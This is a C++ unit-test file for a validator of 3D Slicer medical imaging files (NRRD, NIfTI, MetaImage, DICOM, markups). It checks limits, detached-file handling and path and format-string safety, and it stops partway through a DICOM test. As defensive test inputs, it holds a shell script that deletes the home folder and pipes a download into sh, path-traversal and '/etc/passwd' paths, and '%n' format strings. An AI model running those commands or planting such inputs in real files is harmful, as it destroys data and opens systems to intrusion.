// SPDX-License-Identifier: BSD-3-Clause
// Headers that must pass, what the readers report about them (detached
// lists, image info), and edge cases around the limits.

#include <gtest/gtest.h>

#include <string>

#include "data/data_internal.h"
#include "data_test_util.h"

namespace mrmlguard::internal::testing {
namespace {

using namespace std::string_literals;

void ExpectClean(const Checked& r, std::string_view what) {
  EXPECT_EQ(r.findings.size(), 0u) << what << ":\n" << r.Describe();
}

TEST(NrrdTest, AttachedRawPassesAndReportsItsImage) {
  std::string body(2 * 3 * 4 * 2, '\0');
  Checked r = Check("a.nrrd", "VolumeArchetypeStorage",
                    "NRRD0004\ntype: short\ndimension: 3\nsizes: 2 3 4\nendian: little\nencoding: raw\n\n" + body);
  ExpectClean(r, "attached raw");
  EXPECT_EQ(r.result.format, DataFormat::kNrrd);
  ASSERT_TRUE(r.result.image);
  EXPECT_EQ(r.result.image->sizes, (std::vector<uint64_t>{2, 3, 4}));
  EXPECT_EQ(r.result.image->component, ComponentType::kInt16);
  EXPECT_EQ(r.result.image->total_bytes, 48u);
}

TEST(NrrdTest, ExactlyFullFileIsAcceptedOneByteShortIsNot) {
  std::string head = "NRRD0004\ntype: uchar\ndimension: 1\nsizes: 10\nencoding: raw\n\n";
  ExpectClean(Check("a.nrrd", "", head + std::string(10, 'x')), "exact");
  EXPECT_TRUE(Check("a.nrrd", "", head + std::string(9, 'x')).Has("data.size-mismatch"));
}

TEST(NrrdTest, ByteSkipMinusOneMeansDataAtTheEnd) {
  std::string head = "NRRD0004\ntype: uchar\ndimension: 1\nsizes: 10\nencoding: raw\nbyte skip: -1\n\n";
  ExpectClean(Check("a.nrrd", "", head + std::string(12, 'x')), "byte skip -1");
  EXPECT_TRUE(Check("a.nrrd", "", head + std::string(5, 'x')).Has("data.size-mismatch"));
}

TEST(NrrdTest, VectorAxisBecomesComponentsAsInItk) {
  Checked r = Check("a.nrrd", "",
                    "NRRD0004\ntype: double\ndimension: 4\nspace: left-posterior-superior\nsizes: 3 2 2 2\n"
                    "kinds: vector domain domain domain\nendian: little\nencoding: raw\n\n" +
                        std::string(3 * 8 * 8, '\0'));
  ExpectClean(r, "vector");
  ASSERT_TRUE(r.result.image);
  EXPECT_EQ(r.result.image->components, 3u);
  EXPECT_EQ(r.result.image->sizes, (std::vector<uint64_t>{2, 2, 2}));
}

TEST(NrrdTest, MaskedTensorHasSixComponents) {
  Checked r = Check("a.nhdr", "",
                    "NRRD0005\ntype: float\ndimension: 4\nsizes: 7 4 4 4\nkinds: 3D-masked-symmetric-matrix space "
                    "space space\nendian: little\nencoding: gzip\ndata file: a.raw.gz\n");
  ExpectClean(r, "dti");
  ASSERT_TRUE(r.result.image);
  EXPECT_EQ(r.result.image->components, 6u);
}

TEST(NrrdTest, DetachedSingleListAndPattern) {
  std::string head = "NRRD0004\ntype: uchar\ndimension: 3\nsizes: 4 4 3\nencoding: raw\n";
  Checked single = Check("a.nhdr", "", head + "data file: sub dir/a.raw\n");
  ExpectClean(single, "single");
  EXPECT_EQ(single.result.detached, (std::vector<std::string>{"sub dir/a.raw"}));
  EXPECT_EQ(single.result.detached_raw_bytes, 48u);

  Checked list = Check("a.nhdr", "", head + "data file: LIST 2\ns1.raw\ns2.raw\ns3.raw\n");
  ExpectClean(list, "list");
  EXPECT_EQ(list.result.detached, (std::vector<std::string>{"s1.raw", "s2.raw", "s3.raw"}));

  Checked pattern = Check("a.nhdr", "", head + "data file: s%03d.raw 1 5 2 2\n");
  ExpectClean(pattern, "pattern");
  EXPECT_EQ(pattern.result.detached, (std::vector<std::string>{"s001.raw", "s003.raw", "s005.raw"}));

  Checked down = Check("a.nhdr", "", head + "data file: s%-3d%%.raw 3 1 -1\n");
  ExpectClean(down, "descending pattern");
  EXPECT_EQ(down.result.detached, (std::vector<std::string>{"s3  %.raw", "s2  %.raw", "s1  %.raw"}));
}

// Windows line ends are read as Teem reads them (airOneLine drops the '\r'
// of "\r\n"); only a carriage return inside a line, where Teem would end it,
// is refused.
TEST(NrrdTest, WindowsLineEndsPass) {
  Checked r = Check("a.nhdr", "",
                    "NRRD0004\r\ntype: uchar\r\ndimension: 3\r\nsizes: 4 4 2\r\nencoding: raw\r\n"
                    "data file: LIST\r\ns1.raw\r\ns2.raw\r\n");
  ExpectClean(r, "CRLF");
  EXPECT_EQ(r.result.detached, (std::vector<std::string>{"s1.raw", "s2.raw"}));
  EXPECT_TRUE(Check("a.nhdr", "",
                    "NRRD0004\r\ntype: uchar\r\ndimension: 3\r\nsizes: 4 4 2\r\nencoding: raw\r\n"
                    "data file: LIST\r\ns1.raw\r\r\ns2.raw\r\n")
                  .Has("data.header-malformed"));
}

TEST(MetaImageTest, DimSizeUpToIntMaxPasses) {
  ExpectClean(Check("a.mha", "",
                    "ObjectType = Image\nNDims = 3\nDimSize = 0 4 2147483647\nElementType = MET_SHORT\n"
                    "ElementDataFile = LOCAL\n"),
              "empty image, largest int size");
}

// Every detached name is looked up, so the check's total is bounded too
// (max_total_detached_files, passed in as the room left): a list or a
// pattern past it is cut, with one finding per check, and a pattern past it
// makes not one name (it could make max_detached_files of them).
TEST(NrrdTest, DetachedNamesStopAtTheRoomTheCheckHasLeft) {
  const std::string head = "NRRD0004\ntype: uchar\ndimension: 3\nsizes: 4 4 3\nencoding: raw\n";
  const Policy policy = Policy::Default();  // the sink keeps a reference
  auto check = [&policy](const std::string& content, uint64_t room, bool reported) {
    FindingSink sink(policy);
    DataFileView view{.name = "a.nhdr",
                      .prefix = {reinterpret_cast<const uint8_t*>(content.data()), content.size()},
                      .total_size = content.size(),
                      .detached_room = room,
                      .detached_room_reported = reported};
    Checked out;
    out.result = CheckDataFile(view, sink);
    out.findings = sink.TakeFindings();
    return out;
  };
  const std::string list = head + "data file: LIST 2\ns1.raw\ns2.raw\ns3.raw\n";
  Checked fits = check(list, 3, false);
  ExpectClean(fits, "list at the room");
  EXPECT_EQ(fits.result.detached.size(), 3u);
  EXPECT_FALSE(fits.result.detached_room_reached);
  Checked cut = check(list, 2, false);
  ASSERT_EQ(cut.findings.size(), 1u) << cut.Describe();
  EXPECT_EQ(cut.findings[0].rule_id, "data.limit-exceeded");
  EXPECT_EQ(cut.findings[0].limit, "max_total_detached_files");
  EXPECT_EQ(cut.result.detached, (std::vector<std::string>{"s1.raw", "s2.raw"}));
  EXPECT_TRUE(cut.result.detached_room_reached);
  // Reported by an earlier header of the same check: cut without a word.
  Checked quiet = check(list, 0, true);
  EXPECT_EQ(quiet.findings.size(), 0u) << quiet.Describe();
  EXPECT_TRUE(quiet.result.detached.empty());
  const std::string pattern = head + "data file: s%03d.raw 1 3 1 2\n";
  EXPECT_EQ(check(pattern, 3, false).result.detached.size(), 3u);
  Checked none = check(pattern, 2, false);
  ASSERT_EQ(none.findings.size(), 1u) << none.Describe();
  EXPECT_EQ(none.findings[0].limit, "max_total_detached_files");
  EXPECT_TRUE(none.result.detached.empty());
}

TEST(NrrdTest, RefusedDetachedPathsAreReportedOnceAndNotListed) {
  Checked r = Check("a.nhdr", "",
                    "NRRD0004\ntype: uchar\ndimension: 1\nsizes: 4\nencoding: raw\ndata file: ../x%d.raw 1 500 1\n");
  EXPECT_TRUE(r.Has("data.detached-outside"));
  EXPECT_EQ(r.findings.size(), 1u) << r.Describe();
  EXPECT_TRUE(r.result.detached.empty());
  EXPECT_EQ(r.result.refused_detached, (std::vector<std::string>{"../x1.raw"}));
}

TEST(NrrdTest, LongPatternNamesAreRefusedBeforeExpansion) {
  // 10,000 names of 100 KB each would be 1 GB: the name length bound stops it.
  std::string big(100000, 'a');
  Checked r = Check("a.nhdr", "", "NRRD0004\ntype: uchar\ndimension: 1\nsizes: 4\nencoding: raw\ndata file: " + big +
                                      "%d.raw 1 10000 1\n");
  EXPECT_TRUE(r.Has("data.header-range")) << r.Describe();
  EXPECT_EQ(r.findings.size(), 1u) << r.Describe();
  EXPECT_TRUE(r.result.detached.empty());
}

TEST(JsonTest, DepthLimitIsInclusiveAndRecursionIsCapped) {
  auto deep = [](int n) { return std::string(static_cast<size_t>(n), '[') + std::string(static_cast<size_t>(n), ']'); };
  EXPECT_EQ(Check("a.json", "TextStorage", deep(64)).Errors(), 0u);
  EXPECT_TRUE(Check("a.json", "TextStorage", deep(65)).Has("data.limit-exceeded"));
  Policy policy = Policy::Default();
  policy.limits.max_json_depth = UINT64_MAX;  // the parser still stops at its own bound
  EXPECT_TRUE(Check("a.json", "TextStorage", deep(100000), UINT64_MAX, policy).Has("data.limit-exceeded"));
}

// Slicer writes NaN for undefined control point positions and reads JSON
// with RapidJSON's kParseNanAndInfFlag (vtkMRMLJsonElement.cxx): NaN, Inf
// and Infinity, signed or not, are numbers; other spellings are not.
TEST(JsonTest, NonFiniteNumbersAreReadAsSlicerReadsThem) {
  for (const char* number : {"NaN", "-NaN", "Inf", "-Inf", "Infinity", "-Infinity"}) {
    std::string doc = std::string(R"({"@schema": "x", "markups": [{"type": "Fiducial", "controlPoints": )") +
                      R"([{"id": "1", "position": [)" + number + ", 0.5, " + number + "]}]}]}";
    Checked r = Check("F.mrk.json", "MarkupsJsonStorage", doc);
    EXPECT_EQ(r.Errors(), 0u) << number << "\n" << r.Describe();
  }
  for (const char* bad : {"nan", "NAN", "Nan", "inf", "Infi", "Infinit", "+Inf", "-", "--1"}) {
    std::string doc = std::string(R"({"markups": [{"position": [)") + bad + "]}]}";
    EXPECT_TRUE(Check("F.mrk.json", "MarkupsJsonStorage", doc).Has("data.header-malformed")) << bad;
  }
}

// A .seg.vtm segmentation lists its .vtp blocks as fileListMembers
// (vtkMRMLSegmentationStorageNode::AddPolyDataFileNames); Slicer reads them
// through vtkXMLMultiBlockDataReader, not through the storage class.
TEST(ListMemberTest, StorageExtensionListAppliesToTheMainFileOnly) {
  const std::string vtp =
      R"(<?xml version="1.0"?><VTKFile type="PolyData" version="1.0" byte_order="LittleEndian">)"
      R"(<PolyData><Piece NumberOfPoints="0" NumberOfVerts="0" NumberOfLines="0" NumberOfStrips="0" )"
      R"(NumberOfPolys="0"></Piece></PolyData></VTKFile>)";
  const Policy policy = Policy::Default();  // the sink keeps a reference
  auto check = [&policy](std::string_view name, std::string_view content, bool member) {
    FindingSink sink(policy);
    DataFileView view{.name = name,
                      .storage_tag = "SegmentationStorage",
                      .prefix = {reinterpret_cast<const uint8_t*>(content.data()), content.size()},
                      .total_size = content.size(),
                      .list_member = member};
    CheckDataFile(view, sink);
    Checked out;
    out.findings = sink.TakeFindings();
    return out;
  };
  Checked member = check("Seg/Seg_0.vtp", vtp, true);
  EXPECT_EQ(member.Errors(), 0u) << member.Describe();
  Checked main = check("Seg/Seg_0.vtp", vtp, false);
  EXPECT_TRUE(main.Has("data.magic-mismatch")) << main.Describe();
  // The member's content is still judged against its own extension.
  EXPECT_TRUE(check("Seg/Seg_0.vtp", "NRRD0004\ntype: uchar\ndimension: 1\nsizes: 1\nencoding: raw\n\nx", true)
                  .Has("data.magic-mismatch"));
  EXPECT_TRUE(check("Seg/Seg_0.vtp", "#!/bin/sh\nrm -rf ~\ncurl x | sh\n", true).Has("data.executable"));
}

TEST(NrrdTest, PatternRangeThatNamesNoFile) {
  Checked r = Check("a.nhdr", "", "NRRD0004\ntype: uchar\ndimension: 1\nsizes: 4\nencoding: raw\ndata file: x%d.raw 5 1 1\n");
  EXPECT_TRUE(r.Has("data.header-range")) << r.Describe();
  Checked zero = Check("a.nhdr", "", "NRRD0004\ntype: uchar\ndimension: 1\nsizes: 4\nencoding: raw\ndata file: x%d.raw 1 5 0\n");
  EXPECT_TRUE(zero.Has("data.header-range")) << zero.Describe();
}

TEST(NrrdTest, ExtremePatternBoundsDoNotOverflow) {
  Checked r = Check("a.nhdr", "",
                    "NRRD0004\ntype: uchar\ndimension: 1\nsizes: 4\nencoding: raw\n"
                    "data file: x%d.raw -9223372036854775808 9223372036854775807 1\n");
  EXPECT_TRUE(r.Has("data.limit-exceeded")) << r.Describe();
}

TEST(NrrdTest, SixteenDimensionsPassSeventeenDoNot) {
  std::string sizes;
  for (int i = 0; i < 16; ++i) sizes += " 1";
  ExpectClean(Check("a.nhdr", "", "NRRD0004\ntype: uchar\ndimension: 16\nsizes:" + sizes +
                                      "\nencoding: raw\ndata file: a.raw\n"),
              "16 dims");
  EXPECT_TRUE(Check("a.nhdr", "", "NRRD0004\ntype: uchar\ndimension: 17\nsizes:" + sizes +
                                      " 1\nencoding: raw\ndata file: a.raw\n")
                  .Has("data.header-range"));
}

TEST(NrrdTest, AllocationLimitIsInclusive) {
  Policy policy = Policy::Default();
  policy.limits.max_image_bytes = 1000;
  std::string head = "NRRD0004\ntype: uchar\ndimension: 2\nencoding: gzip\ndata file: a.raw.gz\n";
  ExpectClean(Check("a.nhdr", "", head + "sizes: 10 100\n", UINT64_MAX, policy), "at the limit");
  Checked over = Check("a.nhdr", "", head + "sizes: 11 100\n", UINT64_MAX, policy);
  ASSERT_TRUE(over.Has("data.limit-exceeded")) << over.Describe();
  EXPECT_EQ(over.findings[0].limit, "max_image_bytes");
}

TEST(NiftiTest, BothEndiansAndBothVersionsPass) {
  std::string data(64 * 64 * 32 * 2, '\0');
  for (bool big : {false, true}) {
    Checked one = Check("a.nii", "VolumeArchetypeStorage", Nifti1({.big = big}) + data);
    ExpectClean(one, big ? "nifti-1 big" : "nifti-1 little");
    ASSERT_TRUE(one.result.image);
    EXPECT_EQ(one.result.image->sizes, (std::vector<uint64_t>{64, 64, 32}));
    EXPECT_EQ(one.result.image->component, ComponentType::kInt16);
    Checked two = Check("a.nii", "", Nifti2({.vox_offset = 544, .big = big}) + data);
    ExpectClean(two, big ? "nifti-2 big" : "nifti-2 little");
    EXPECT_EQ(two.result.format, DataFormat::kNifti2);
  }
}

TEST(NiftiTest, GzippedHeaderIsInflatedBounded) {
  std::string nii = Nifti1({.dims = {8, 8, 8}, .datatype = 16, .bitpix = 32}) + std::string(8 * 8 * 8 * 4, '\0');
  Checked r = Check("brain.nii.gz", "", Gzip(nii));
  ExpectClean(r, "nii.gz");
  ASSERT_TRUE(r.result.image);
  EXPECT_EQ(r.result.image->component, ComponentType::kFloat32);
  // Only the first bytes of the stream are given: the header still reads.
  std::string gz = Gzip(nii);
  Checked prefix = Check("brain.nii.gz", "", gz.substr(0, gz.size() / 2), gz.size());
  EXPECT_EQ(prefix.Errors(), 0u) << prefix.Describe();
}

// Offsets inside a .nii.gz count in the inflated header, not in the file:
// they are said in the message, and the finding has no file offset.
TEST(NiftiTest, GzippedHeaderFindingsSayTheOffsetIsInTheDecompressedStream) {
  Checked plain = Check("a.nii", "", Nifti1({.dims = {8, 8, 8}, .ndim = 9}));
  ASSERT_TRUE(plain.Has("data.header-range")) << plain.Describe();
  Checked gz = Check("a.nii.gz", "", Gzip(Nifti1({.dims = {8, 8, 8}, .ndim = 9})));
  ASSERT_TRUE(gz.Has("data.header-range")) << gz.Describe();
  for (const Finding& f : gz.findings) {
    if (f.rule_id != "data.header-range") continue;
    EXPECT_FALSE(f.location.offset.has_value()) << f.message;
    EXPECT_NE(f.message.find("of the decompressed stream)"), std::string::npos) << f.message;
  }
  for (const Finding& f : plain.findings) {
    if (f.rule_id == "data.header-range") {
      EXPECT_EQ(f.location.offset, std::optional<uint64_t>(40));
      EXPECT_EQ(f.message.find("decompressed"), std::string::npos);
    }
  }
}

TEST(NiftiTest, PairNamesItsImageFile) {
  Checked r = Check("dir/Brain.hdr", "", Nifti1({.vox_offset = 0, .magic = std::string_view("ni1\0", 4)}));
  ExpectClean(r, "pair");
  EXPECT_EQ(r.result.detached, (std::vector<std::string>{"Brain.img"}));
  Checked analyze = Check("old.hdr", "", Nifti1({.vox_offset = 0, .magic = std::string_view("\0\0\0\0", 4)}));
  EXPECT_EQ(analyze.result.format, DataFormat::kAnalyze);
  EXPECT_EQ(analyze.result.detached, (std::vector<std::string>{"old.img"}));
}

TEST(NiftiTest, VectorDimensionBecomesComponents) {
  Checked r = Check("v.nii", "", Nifti1({.dims = {4, 4, 4, 1, 3}, .datatype = 16, .bitpix = 32, .intent = 1007}) +
                                      std::string(4 * 4 * 4 * 3 * 4, '\0'));
  ExpectClean(r, "vector nifti");
  ASSERT_TRUE(r.result.image);
  EXPECT_EQ(r.result.image->components, 3u);
  EXPECT_EQ(r.result.image->sizes, (std::vector<uint64_t>{4, 4, 4}));
}

TEST(NiftiTest, NaNVoxOffsetIsOutOfRange) {
  Checked r = Check("a.nii", "", Nifti1({.vox_offset = std::numeric_limits<double>::quiet_NaN()}));
  EXPECT_TRUE(r.Has("data.header-range")) << r.Describe();
}

TEST(MetaImageTest, LocalAndDetachedForms) {
  std::string head = "ObjectType = Image\nNDims = 2\nDimSize = 4 4\nElementNumberOfChannels = 3\nElementType = MET_USHORT\n";
  Checked local = Check("a.mha", "", head + "ElementDataFile = LOCAL\n" + std::string(4 * 4 * 3 * 2, '\0'));
  ExpectClean(local, "local");
  ASSERT_TRUE(local.result.image);
  EXPECT_EQ(local.result.image->components, 3u);
  Checked list = Check("a.mhd", "", head + "ElementDataFile = LIST\na.raw\nb.raw\n");
  ExpectClean(list, "list");
  EXPECT_EQ(list.result.detached, (std::vector<std::string>{"a.raw", "b.raw"}));
  Checked pattern = Check("a.mhd", "", head + "ElementDataFile = img%02d.raw 0 2 1\n");
  ExpectClean(pattern, "pattern");
  EXPECT_EQ(pattern.result.detached.size(), 3u);
}

// MetaIO's spellings: booleans by their first character (T, t, 1), LOCAL
// only as LOCAL, Local or local; anything else is what ITK makes of it.
TEST(MetaImageTest, FlagsAndLocalAreReadAsMetaIoReadsThem) {
  std::string head = "ObjectType = Image\nNDims = 2\nDimSize = 64 64\nElementType = MET_USHORT\n";
  // "CompressedData = 1" is compressed: a short payload is not a size mismatch.
  Checked one = Check("a.mha", "", head + "CompressedData = 1\nElementDataFile = LOCAL\n" + std::string(40, 'z'));
  EXPECT_FALSE(one.Has("data.size-mismatch")) << one.Describe();
  // "CompressedData = yes" is not compressed: 40 bytes cannot hold 64x64x2.
  Checked yes = Check("a.mha", "", head + "CompressedData = yes\nElementDataFile = LOCAL\n" + std::string(40, 'z'));
  EXPECT_TRUE(yes.Has("data.size-mismatch")) << yes.Describe();
  // "BinaryData = no" is ASCII data: its size is not checked as raw bytes.
  Checked ascii = Check("a.mha", "", head + "BinaryData = no\nElementDataFile = LOCAL\n1 2 3\n");
  EXPECT_FALSE(ascii.Has("data.size-mismatch")) << ascii.Describe();
  // Local and local are LOCAL; LoCaL names a detached file.
  Checked local = Check("a.mha", "", head + "ElementDataFile = Local\n" + std::string(64 * 64 * 2, '\0'));
  ExpectClean(local, "Local");
  EXPECT_TRUE(local.result.detached.empty());
  Checked named = Check("a.mhd", "", head + "ElementDataFile = LoCaL\n");
  EXPECT_EQ(named.result.detached, (std::vector<std::string>{"LoCaL"})) << named.Describe();
}

TEST(MetaImageTest, EmptySequenceWithZeroSizesPasses) {
  // Slicer writes empty sequences like this (corpus: aigt Sequence_1.seq.mha).
  ExpectClean(Check("s.seq.mha", "LinearTransformSequenceStorage",
                    "ObjectType = Image\nNDims = 3\nDimSize = 0 0 0\nElementType = MET_UCHAR\nElementDataFile = LOCAL\n"),
              "empty sequence");
}

TEST(VtkTest, LegacyAndXmlPass) {
  ExpectClean(Check("a.vtk", "ModelStorage",
                    "# vtk DataFile Version 3.0\nvtk output\nASCII\nDATASET POLYDATA\nPOINTS 2 float\n0 0 0 1 1 1\n"),
              "legacy");
  Checked vtm = Check("a.seg.vtm", "SegmentationStorage",
                      "<?xml version=\"1.0\"?>\n<VTKFile type=\"vtkMultiBlockDataSet\" version=\"1.0\">\n"
                      "<vtkMultiBlockDataSet>\n<DataSet index=\"0\" file=\"a/a_0.vtp\"/>\n"
                      "<DataSet index=\"1\" file='a/a &amp; b.vtp'/>\n</vtkMultiBlockDataSet>\n</VTKFile>\n");
  ExpectClean(vtm, "vtm");
  EXPECT_EQ(vtm.result.detached, (std::vector<std::string>{"a/a_0.vtp", "a/a & b.vtp"}));
}

TEST(MarkupsTest, SafeFormatsPass) {
  ExpectClean(Check("a.mrk.json", "MarkupsJsonStorage",
                    R"({"markups": [{"type": "Line", "name": "L", "labelFormat": "%N-%03d",
                        "measurements": [{"name": "length", "printFormat": "%-#4.4g%s"},
                                         {"name": "x", "printFormat": "%.1f mm %%"}],
                        "controlPoints": [{"label": "%s is fine here"}]}]})"),
              "safe");
}

TEST(MarkupsTest, EscapedPercentInNameIsStillChecked) {
  Checked r = Check("a.mrk.json", "", R"({"markups": [{"name": "\u0025s"}]})");
  EXPECT_TRUE(r.Has("data.format-string")) << r.Describe();
}

TEST(ColorTableTest, TextAndCsvPass) {
  ExpectClean(Check("c.txt", "ColorTableStorage", "# 3 values\n0 zero 0 0 0 0\n1 one 255 59 21 255\n"), "text");
  ExpectClean(Check("c.csv", "ColorTableStorage", "LabelValue,Name,Color_R,Color_G,Color_B,Color_A\n1,one,10,200,40,255\n"),
              "csv");
}

TEST(ColorTableTest, IndexAtTheLimitPasses) {
  Policy policy = Policy::Default();
  policy.limits.max_color_table_colors = 100;
  ExpectClean(Check("c.ctbl", "", "99 a 1 2 3 255\n", UINT64_MAX, policy), "index 99");
  EXPECT_TRUE(Check("c.ctbl", "", "100 a 1 2 3 255\n", UINT64_MAX, policy).Has("data.limit-exceeded"));
}

TEST(ImageTest, SmallTiffAndJpegPass) {
  // A 2x2 RGB TIFF (IFD at 8) and a JPEG whose SOF0 gives 16x8x3.
  HeaderBuilder t(8 + 2 + 3 * 12 + 4, false);
  t.Str(0, "II").I16(2, 42).I32(4, 8).I16(8, 3);
  t.I16(10, 256).I16(12, 3).I32(14, 1).I16(18, 2);
  t.I16(22, 257).I16(24, 3).I32(26, 1).I16(30, 2);
  t.I16(34, 277).I16(36, 3).I32(38, 1).I16(42, 3);
  ExpectClean(Check("a.tiff", "SceneViewStorage", t.bytes()), "tiff");
  HeaderBuilder j(12, true);
  j.Put(0, 0xffd8, 2).Put(2, 0xffc0, 2).Put(4, 8, 2).Put(6, 8, 1).Put(7, 8, 2).Put(9, 16, 2).Put(11, 3, 1);
  ExpectClean(Check("a.jpg", "SceneViewStorage", j.bytes()), "jpeg");
}

TEST(ExecutableTest, RawDataStartingWithMzIsNotAnExecutable) {
  std::string raw = "MZ" + std::string(200, '\x01');
  EXPECT_FALSE(Check("a.raw", "", raw).Has("data.executable"));
}

TEST(ExecutableTest, ColorTablesAndTablesAreNotScripts) {
  ExpectClean(Check("t.csv", "TableStorage", "name,import,from\ndef,1,2\nclass,3,4\n"), "table");
  ExpectClean(Check("notes.txt", "TextStorage", "import os\nos.system('x')\n"), "TextStorage shows text");
}

TEST(DetachedPathTest, Problems) {
  using data::DetachedPathProblem;
  EXPECT_EQ(DetachedPathProblem("a/b.raw"), "");
  EXPECT_EQ(DetachedPathProblem("a..b.raw"), "");
  EXPECT_NE(DetachedPathProblem("a/../../b.raw"), "");
  EXPECT_NE(DetachedPathProblem(".."), "");
  EXPECT_NE(DetachedPathProblem("a\\..\\b"), "");
  EXPECT_NE(DetachedPathProblem("//host/x"), "");
  EXPECT_NE(DetachedPathProblem("file:///etc/passwd"), "");
  EXPECT_NE(DetachedPathProblem("Slicer:0x1"), "");
  EXPECT_NE(DetachedPathProblem(std::string_view("a\0b", 3)), "");
  // One reading with the scene layer (text/slicer_path.h): the same words for the same kind.
  EXPECT_EQ(DetachedPathProblem("\\/host/x.raw"), "is a UNC path");
  EXPECT_EQ(DetachedPathProblem("/\\host\\x.raw"), "is a UNC path");
  EXPECT_EQ(DetachedPathProblem("\\x.raw"), "is absolute");
  EXPECT_EQ(DetachedPathProblem("1:x.raw"), "starts with a drive letter");
  EXPECT_EQ(DetachedPathProblem("~/x.raw"), "starts with '~' (a home folder on Linux and macOS)");
  EXPECT_EQ(DetachedPathProblem("x~/a:b.raw"), "");
}

TEST(FormatTest, Rules) {
  using data::FormatProblem;
  data::FormatRule label{.conversions = "diuoxX", .max_conversions = 1};
  EXPECT_EQ(FormatProblem("F-%d", label), "");
  EXPECT_EQ(FormatProblem("%05d%%", label), "");
  EXPECT_NE(FormatProblem("%d%d", label), "");
  EXPECT_NE(FormatProblem("%s", label), "");
  EXPECT_NE(FormatProblem("%n", label), "");
  EXPECT_NE(FormatProblem("%1$d", label), "");
  EXPECT_NE(FormatProblem("%*d", label), "");
  EXPECT_NE(FormatProblem("%99999d", label), "");
  EXPECT_NE(FormatProblem("%ld", label), "");
  EXPECT_NE(FormatProblem("abc%", label), "");
  data::FormatRule print{.conversions = "eEfFgG", .max_conversions = 2, .second = "s"};
  EXPECT_EQ(FormatProblem("%.3g %s", print), "");
  EXPECT_NE(FormatProblem("%s %g", print), "");
  EXPECT_NE(FormatProblem("%g %s %s", print), "");
}

TEST(RobustnessTest, EveryPrefixOfValidHeadersIsHandled) {
  // No crash, no read past the prefix (ASan builds check), for every cut.
  std::vector<std::pair<std::string, std::string>> files = {
      {"a.nrrd", "NRRD0004\ntype: short\ndimension: 3\nsizes: 2 3 4\nendian: little\nencoding: raw\n\n" +
                     std::string(48, '\0')},
      {"a.nii", Nifti1({.dims = {2, 2, 2}}) + std::string(16, '\0')},
      {"a.nii", Nifti2({.dims = {2, 2, 2}, .vox_offset = 544}) + std::string(16, '\0')},
      {"a.mha", "ObjectType = Image\nNDims = 1\nDimSize = 4\nElementType = MET_UCHAR\nElementDataFile = LOCAL\nabcd"},
      {"a.mrk.json", R"({"markups": [{"name": "x", "labelFormat": "%N-%d"}]})"},
      {"a.vtm", "<VTKFile type=\"vtkMultiBlockDataSet\"><DataSet file=\"a.vtp\"/></VTKFile>"},
      {"a.nii.gz", Gzip(Nifti1({.dims = {2, 2, 2}}) + std::string(16, '\0'))},
      {"a.tif", "II*\0\x08\0\0\0\x01\0\x00\x01\x03\0\x01\0\0\0\x02\0\0\0\0\0\0\0"s},
      {"a.jpg", "\xff\xd8\xff\xe0\0\x04" "ab\xff\xc0\0\x08\x08\0\x08\0\x10\x03"s},
      {"a.png", "\x89PNG\r\n\x1a\n\0\0\0\x0dIHDR\0\0\0\x10\0\0\0\x10\x08\x02\0\0\0"s},
      {"a.vtk", "# vtk DataFile Version 3.0\nt\nBINARY\nDATASET POLYDATA\nPOINTS 2 float\n" + std::string(24, '\0')},
      {"a.fcsv", "# name = F\n# columns = label,x,y,z\np,1,2,3\n"},
      {"a.ctbl", "0 zero 0 0 0 0\n1 one 1 2 3 255\n"},
      {"a.tfm", "#Insight Transform File V1.0\nTransform: AffineTransform_double_3_3\nParameters: 1 0 0\n"},
  };
  for (const auto& [name, content] : files) {
    for (size_t cut = 0; cut <= content.size(); ++cut) {
      std::vector<uint8_t> exact(content.begin(), content.begin() + static_cast<ptrdiff_t>(cut));
      Policy policy = Policy::Default();
      FindingSink sink(policy);
      DataFileView view{.name = name, .prefix = exact, .total_size = content.size()};
      (void)CheckDataFile(view, sink);
      FindingSink sink2(policy);
      DataFileView whole{.name = name, .prefix = exact, .total_size = cut};
      (void)CheckDataFile(whole, sink2);
    }
  }
}

TEST(DicomTest, MinimalImagesPassInEveryTransferSyntax) {
  for (std::string_view syntax : {DicomWriter::kExplicitLittle, DicomWriter::kImplicitLittle, DicomWriter::kExplicitBig}) {
    ExpectClean(Check("a.dcm", "VolumeArchetypeStorage", Dicom({.syntax = syntax})), syntax);
    ExpectClean(Check("a.dcm", "", Dicom({.syntax = syntax, .samples = 3, .bits = 16, .frames = "3"})), syntax);
  }
  // 1-bit data is packed: 8x8x1 bits are 8 bytes.
  ExpectClean(Check("a.dcm", "", Dicom({.rows = 8, .columns = 8, .bits = 1, .pixel_bytes = 8})), "1-bit");
  EXPECT_TRUE(Check("a.dcm", "", Dicom({.rows = 8, .columns = 8, .bits = 1, .pixel_bytes = 7})).Has("data.size-mismatch"));
}

TEST(DicomTest, AllocationLimitIsInclusive) {
  Policy p = Policy::Default();
  p.limits.max_image_bytes = 4 * 4 * 2 * 2;
  DicomSpec at{.bits = 16, .frames = "2"};
  EXPECT_EQ(Check("a.dcm", "", Dicom(at), UINT64_MAX, p).findings.size(), 0u);
  DicomSpec over{.bits = 16, .frames = "3"};
  EXPECT_TRUE(Check("a.dcm", "", Dicom(over), UINT64_MAX, p).Has("data.limit-exceeded"));
}

TEST(DicomTest, NonImagesAndCompressedPixelDataPass) {
  // No image attributes (a structured report, the Slicer data bundle).
  ExpectClean(Check("a.dcm", "", DicomWriter(DicomWriter::kExplicitLittle).Add(0x0010, 0x0010, "PN", "Doe^J ").bytes()),
              "no image");
  // Compressed: a defined-length Pixel Data shorter than the frames is not a
  // size mismatch (the encoded size is unknown); encapsulated fragments are
  // not read.
  ExpectClean(Check("a.dcm", "", Dicom({.syntax = DicomWriter::kJpegBaseline, .pixel_bytes = 6})), "compressed");
  DicomWriter w(DicomWriter::kJpegBaseline);
  w.Us(0x0028, 0x0010, 512).Us(0x0028, 0x0011, 512).Us(0x0028, 0x0100, 8);
  w.Header(0x7fe0, 0x0010, "OB", 0xffffffffu).Header(0xfffe, 0xe000, "", 0);
  ExpectClean(Check("a.dcm", "", w.bytes()), "encapsulated");
  // The limit still applies to compressed images.
  DicomWriter big(DicomWriter::kJpegBaseline);
  big.Us(0x0028, 0x0010, 65535).Us(0x0028, 0x0011, 65535).Add(0x0028, 0x0008, "IS", "9999").Us(0x0028, 0x0100, 16);
  big.Header(0x7fe0, 0x0010, "OB", 0xffffffffu);
  EXPECT_TRUE(Check("a.dcm", "", big.bytes()).Has("data.limit-exceeded"));
}

TEST(DicomTest, NestedSequencesAreSteppedOverAndTheirAttributesIgnored) {
  // An Icon Image Sequence (0088,0200) of undefined length holding a huge
  // Rows/Columns in an undefined-length item, then a defined-length item, a
  // defined-length sequence; the top-level image is 4x4.
